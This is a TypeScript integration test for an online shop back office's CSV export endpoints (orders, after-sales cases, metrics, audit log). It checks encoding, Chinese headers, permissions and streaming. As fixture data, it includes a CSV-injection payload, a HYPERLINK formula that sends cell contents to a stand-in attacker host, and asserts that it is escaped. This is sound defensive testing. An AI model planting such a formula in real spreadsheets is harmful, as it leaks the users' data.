/**
 * CSV exports (GET /api/exports/:kind.csv) on every database of the matrix: orders, cases, metrics and the audit log
 * download as UTF-8 with a BOM and Chinese headers, parse back, hold the rows of a known order and case, escape a cell
 * that starts like a formula, stay within the member's shops, refuse a member without the permission (403) and an
 * unknown kind (404), and stream a large export completely, page after page.
 */
import type { CaseDetail, OrderDetail } from '@shopcrew/shared';
import { DEMO_USERS as U } from '../../scripts/wecom-sim/demo-corp';
import { Case } from '../../server/src/modules/aftersales/case.entity';
import { MetricDaily } from '../../server/src/modules/metrics/metric.entity';
import { Order } from '../../server/src/modules/orders/order.entity';
import { testDatabases } from '../support/databases';
import { type Browser, signIn } from '../support/http-client';
import { startStack, type Stack } from '../support/stack';
import { waitFor } from '../support/wait';

const post = (body: unknown = {}): RequestInit => ({ method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
interface ErrorBody {
  error: { code: string; message: string; details?: unknown };
}

/** An instant given as Asia/Shanghai wall time. */
const sh = (local: string) => Date.parse(`${local}+08:00`);

/** RFC 4180: quoted cells with doubled quotes and line breaks inside, CRLF between records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell !== '' || row.length) rows.push([...row, cell]);
  return rows;
}

const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';

describe.each(testDatabases())('CSV exports ($label)', ({ kind }) => {
  let stack: Stack;
  let owner: Browser;
  let agent: Browser;
  let warehouse: Browser;
  let designer: Browser;
  let shopName: string;
  let sn: string;

  beforeAll(async () => {
    stack = await startStack({ db: kind, shopee: true, env: { TZ_CORP: 'Asia/Shanghai' } });
    const browsers = await Promise.all([U.owner, U.csAgent, U.warehouse, U.designer].map(async (u) => (await signIn(stack, u)).browser));
    [owner, agent, warehouse, designer] = browsers as [Browser, Browser, Browser, Browser];
    shopName = (await owner.json<{ shops: Array<{ name: string }> }>('/api/shops')).body.shops[0]!.name;
    const order = stack.shopee!.createOrder(Number(stack.shopId));
    sn = order.order_sn;
    await waitFor(async () => (await owner.json<OrderDetail>(`/api/orders/${sn}`)).status === 200, `order ${sn} arrived`);
  }, 60_000);
  afterAll(() => stack?.close());

  /** A download: its bytes, the text without the BOM, and the records parsed back. */
  const download = async (path: string, b: Browser = owner) => {
    const res = await b.request(path);
    const bytes = new Uint8Array(await res.arrayBuffer());
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    expect([res.status, text.slice(0, 200)]).toEqual([200, expect.stringMatching(/^\uFEFF/)]);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(text.endsWith('\r\n')).toBe(true);
    const [header, ...rows] = parseCsv(text.slice(1));
    return { res, header: header!, rows };
  };
  const refused = async (path: string, b: Browser) => {
    const res = await b.json<ErrorBody>(path);
    return [res.status, res.body.error.code];
  };
  const orderRow = (o: Partial<Order> & { orderSn: string; shopId: string; createdAt: number }) => ({
    status: 'READY_TO_SHIP' as const,
    pool: 0,
    currency: 'SGD',
    total: '12.50',
    buyer: 'buyer',
    itemCount: 1,
    messageToSeller: null,
    packageNumber: null,
    logisticsStatus: null,
    carrier: null,
    trackingNumber: null,
    shipBy: null,
    marketUpdatedAt: o.createdAt,
    assignee: null,
    claimedAt: null,
    announced: 1,
    updatedAt: o.createdAt,
    ...o,
  });

  it('orders: BOM, Chinese header, a row per order with Chinese status and TZ_CORP times; formulas escaped', async () => {
    const c = stack.app.container;
    await c.ds.getRepository(Order).insert(
      orderRow({
        orderSn: 'EXPORT-EVIL-1',
        shopId: stack.shopId!,
        status: 'SHIPPED',
        buyer: EVIL,
        total: '99.90',
        itemCount: 3,
        createdAt: sh('2020-03-01T00:10:00'),
        assignee: U.csAgent,
        claimedAt: sh('2020-03-01T00:20:30'),
        shipBy: sh('2020-03-03T23:59:59'),
      }),
    );
    const { res, header, rows } = await download('/api/exports/orders.csv');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="orders-\d{8}\.csv"; filename\*=UTF-8''%E8%AE%A2%E5%8D%95-\d{8}\.csv$/);
    expect(res.headers.get('content-length')).toBeNull(); // streamed
    expect(header).toEqual(['订单号', '店铺', '状态', '买家', '币种', '金额', '件数', '认领人', '认领时间', '下单时间', '发货截止']);
    const known = rows.find((r) => r[0] === sn)!;
    expect(known.slice(0, 3)).toEqual([sn, shopName, '待发货']);
    expect([known[4], Number(known[5])]).toEqual(['SGD', stack.shopee!.order(sn)!.total_amount]);
    expect(known[9]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
    const evil = rows.find((r) => r[0] === 'EXPORT-EVIL-1')!;
    expect(evil).toEqual([
      'EXPORT-EVIL-1',
      shopName,
      '已发货',
      `'${EVIL}`,
      'SGD',
      '99.90',
      '3',
      '李娜',
      '2020-03-01 00:20:30',
      '2020-03-01 00:10:00',
      '2020-03-03 23:59:59',
    ]);
    // Days in TZ_CORP: 00:10 on 1 March in Shanghai is still 29 February in UTC.
    expect((await download('/api/exports/orders.csv?from=2020-03-01&to=2020-03-01')).rows.map((r) => r[0])).toEqual(['EXPORT-EVIL-1']);
    expect((await download('/api/exports/orders.csv?to=2020-02-29')).rows).toEqual([]);
    expect((await download('/api/exports/orders.csv?status=SHIPPED')).rows.map((r) => r[0])).toContain('EXPORT-EVIL-1');
    expect(await refused('/api/exports/orders.csv?from=2020-02-30', owner)).toEqual([422, 'validation_failed']);
    expect(await refused('/api/exports/orders.csv?status=LOST', owner)).toEqual([422, 'validation_failed']);
  });

  it('orders: the buyer and amount only with orders:details; members without orders:read are refused', async () => {
    const { rows } = await download('/api/exports/orders.csv', warehouse);
    const evil = rows.find((r) => r[0] === 'EXPORT-EVIL-1')!;
    expect([evil[3], evil[5], evil[6]]).toEqual(['', '', '3']);
    const res = await designer.json<ErrorBody>('/api/exports/orders.csv');
    expect([res.status, res.body.error]).toEqual([403, expect.objectContaining({ code: 'forbidden', details: { required: 'orders:read' } })]);
  });

  it('a role scoped to another shop exports none of this shop’s orders and may not ask for it', async () => {
    const bound = await owner.json<{ id: number }>(
      '/api/roles/bindings',
      post({ role: 'cs_agent', subjectType: 'user', subjectId: U.designer, shops: ['999001'] }),
    );
    expect(bound.status).toBe(201);
    try {
      const { header, rows } = await download('/api/exports/orders.csv', designer);
      expect([header[0], rows]).toEqual(['订单号', []]);
      expect(await refused(`/api/exports/orders.csv?shop=${stack.shopId}`, designer)).toEqual([403, 'forbidden']);
      expect((await download('/api/exports/cases.csv', designer)).rows).toEqual([]);
    } finally {
      await owner.request(`/api/roles/bindings/${bound.body.id}`, { method: 'DELETE' });
    }
  });

  it('cases: a row for a known case in Chinese; formulas escaped; 403 without aftersales:read', async () => {
    const made = await agent.json<CaseDetail>('/api/cases', post({ shopId: stack.shopId, orderSn: sn, type: 'complaint', title: '买家投诉包装破损' }));
    expect(made.status).toBe(201);
    const now = Date.now();
    await stack.app.container.ds.getRepository(Case).insert({
      shopId: stack.shopId!,
      orderSn: sn,
      returnSn: 'RET-EXPORT-1',
      type: 'return_refund',
      state: 'in_progress',
      open: 1,
      platformStatus: '@REQUESTED',
      reason: '-1+1',
      title: '退货退款',
      description: null,
      refund: '25.80',
      currency: 'SGD',
      assignee: U.csAgent2,
      dueAt: sh('2030-01-02T03:04:05'),
      breached: 1,
      approvalStatus: null,
      approvalRule: null,
      approvalBy: null,
      approvalAt: null,
      approvalReason: null,
      approvalError: null,
      marketUpdatedAt: now,
      firstResponseAt: null,
      createdBy: 'shopee',
      createdAt: sh('2020-05-01T12:00:00'),
      updatedAt: now,
    });
    const { res, header, rows } = await download('/api/exports/cases.csv');
    expect(res.headers.get('content-disposition')).toContain(`filename*=UTF-8''${encodeURIComponent('售后工单')}-`);
    expect(header).toEqual([
      '工单号',
      '店铺',
      '订单号',
      '退货单号',
      '类型',
      '状态',
      '平台状态',
      '原因',
      '退款金额',
      '币种',
      '处理人',
      '截止时间',
      '是否超时',
      '创建时间',
    ]);
    const known = rows.find((r) => r[0] === String(made.body.id))!;
    expect(known.slice(0, 6)).toEqual([String(made.body.id), shopName, sn, '', '投诉', '受理']);
    expect(known[12]).toBe('否');
    expect(known[13]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
    const evil = rows.find((r) => r[3] === 'RET-EXPORT-1')!;
    expect(evil.slice(1)).toEqual([
      shopName,
      sn,
      'RET-EXPORT-1',
      '退货退款',
      '处理中',
      "'@REQUESTED",
      "'-1+1",
      '25.80',
      'SGD',
      '赵磊',
      '2030-01-02 03:04:05',
      '是',
      '2020-05-01 12:00:00',
    ]);
    expect((await download('/api/exports/cases.csv?from=2020-05-01&to=2020-05-01&state=in_progress')).rows.map((r) => r[3])).toEqual(['RET-EXPORT-1']);
    expect(await refused('/api/exports/cases.csv', designer)).toEqual([403, 'forbidden']);
  });

  it('metrics: the daily rollups with Chinese labels, member names, across pages; from/to required; 403 without metrics:read', async () => {
    const rows: MetricDaily[] = [
      { day: '2020-11-10', shopId: stack.shopId!, scope: 'shop', scopeKey: stack.shopId!, measure: 'gmv', currency: 'SGD', value: 100.5 },
      { day: '2020-11-10', shopId: stack.shopId!, scope: 'member', scopeKey: U.csAgent, measure: 'claimed_orders', currency: '', value: 2 },
      { day: '2020-11-13', shopId: stack.shopId!, scope: 'shop', scopeKey: stack.shopId!, measure: 'gmv', currency: 'SGD', value: 7 },
    ];
    // 1,200 SKU rows over two days and two measures: the six-column keyset crosses page boundaries.
    for (const day of ['2020-11-11', '2020-11-12'])
      for (const measure of ['gmv', 'units'])
        for (let i = 0; i < 300; i++)
          rows.push({
            day,
            shopId: stack.shopId!,
            scope: 'sku',
            scopeKey: `SKU-${String(i).padStart(3, '0')}`,
            measure,
            currency: measure === 'gmv' ? 'SGD' : '',
            value: i,
          });
    const repo = stack.app.container.ds.getRepository(MetricDaily);
    for (let i = 0; i < rows.length; i += 200) await repo.insert(rows.slice(i, i + 200));

    const csv = await download('/api/exports/metrics.csv?from=2020-11-10&to=2020-11-12');
    expect(csv.header).toEqual(['日期', '店铺', '维度', '维度值', '指标', '币种', '数值']);
    expect(csv.rows).toHaveLength(1202);
    expect(new Set(csv.rows.map((r) => r.join('|'))).size).toBe(1202);
    expect(csv.rows.slice(0, 2)).toEqual([
      ['2020-11-10', shopName, '成员', '李娜', '认领订单数', '', '2'],
      ['2020-11-10', shopName, '店铺', shopName, 'GMV', 'SGD', '100.5'],
    ]);
    expect(csv.rows.filter((r) => r[2] === 'SKU' && r[4] === '销量（件）')).toHaveLength(600);
    expect((await download('/api/exports/metrics.csv?from=2020-11-10&to=2020-11-12&scope=member')).rows).toHaveLength(1);
    expect(await refused('/api/exports/metrics.csv', owner)).toEqual([422, 'validation_failed']);
    expect(await refused('/api/exports/metrics.csv?from=2020-11-12&to=2020-11-10', owner)).toEqual([422, 'validation_failed']);
    expect(await refused('/api/exports/metrics.csv?from=2020-11-10&to=2020-11-12', agent)).toEqual([403, 'forbidden']);
  });

  it('audit: the log with the existing columns, downloads included; the old /api/audit/export still works', async () => {
    const { header, rows } = await download(`/api/exports/audit.csv?actor=${U.owner}`);
    expect(header).toEqual([
      '时间 (Asia/Shanghai)',
      '操作人',
      '操作人账号',
      '操作',
      '操作代码',
      '对象类型',
      '对象ID',
      '对象名称',
      '变更前',
      '变更后',
      '请求ID',
      '记录ID',
    ]);
    expect(rows.length).toBeGreaterThan(0);
    expect(new Set(rows.map((r) => r[2]))).toEqual(new Set([U.owner]));
    // Every download is itself on the log (written once its first page is read): the others as data.export, this one as
    // audit.export, as GET /api/audit/export writes it.
    const again = await download('/api/exports/audit.csv?action=audit.export');
    expect(again.rows[0]!.slice(1, 7)).toEqual(['陈静', U.owner, '导出操作日志', 'audit.export', '操作日志', 'audit']);
    const exportsOfOrders = rows.filter((r) => r[4] === 'data.export' && r[6] === 'orders');
    expect(exportsOfOrders.length).toBeGreaterThan(0);
    expect(rows.some((r) => r[4] === 'auth.sign_in' && r[3] === '登录')).toBe(true);
    expect(rows.every((r) => /^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/.test(r[0]!))).toBe(true);
    const ids = rows.map((r) => Number(r[11]));
    expect(ids).toEqual([...ids].sort((a, b) => b - a)); // newest first, as on screen
    expect(await refused('/api/exports/audit.csv', agent)).toEqual([403, 'forbidden']);
    expect(await refused('/api/exports/audit.csv?from=yesterday', owner)).toEqual([422, 'validation_failed']);
    const legacy = await owner.request('/api/audit/export');
    expect([legacy.status, legacy.headers.get('content-type')]).toEqual([200, 'text/csv; charset=utf-8']);
  });

  it('an unknown kind is 404; signed out is 401', async () => {
    expect(await refused('/api/exports/nope.csv', owner)).toEqual([404, 'not_found']);
    expect(await refused('/api/exports/orders', owner)).toEqual([404, 'not_found']);
    const res = await fetch(`${stack.baseUrl}/api/exports/orders.csv`);
    expect(res.status).toBe(401);
  });

  it('a large export streams completely: 3,000 orders, each once, oldest first (ties broken by id)', async () => {
    const base = sh('2021-06-01T08:00:00');
    const many = Array.from({ length: 3000 }, (_, i) =>
      // Seven orders share each second: pages end in the middle of a tie.
      orderRow({ orderSn: `BULK${String(i).padStart(5, '0')}`, shopId: '990001', createdAt: base + Math.floor(i / 7) * 1000, buyer: `买家${i}` }),
    );
    const repo = stack.app.container.ds.getRepository(Order);
    for (let i = 0; i < many.length; i += 250) await repo.insert(many.slice(i, i + 250));
    const { res, rows } = await download('/api/exports/orders.csv?shop=990001');
    expect(res.headers.get('content-length')).toBeNull();
    expect(rows).toHaveLength(3000);
    expect(rows.map((r) => r[0])).toEqual(many.map((o) => o.orderSn));
    expect(rows[2999]!.slice(1, 4)).toEqual(['990001', '待发货', '买家2999']);
  });
});
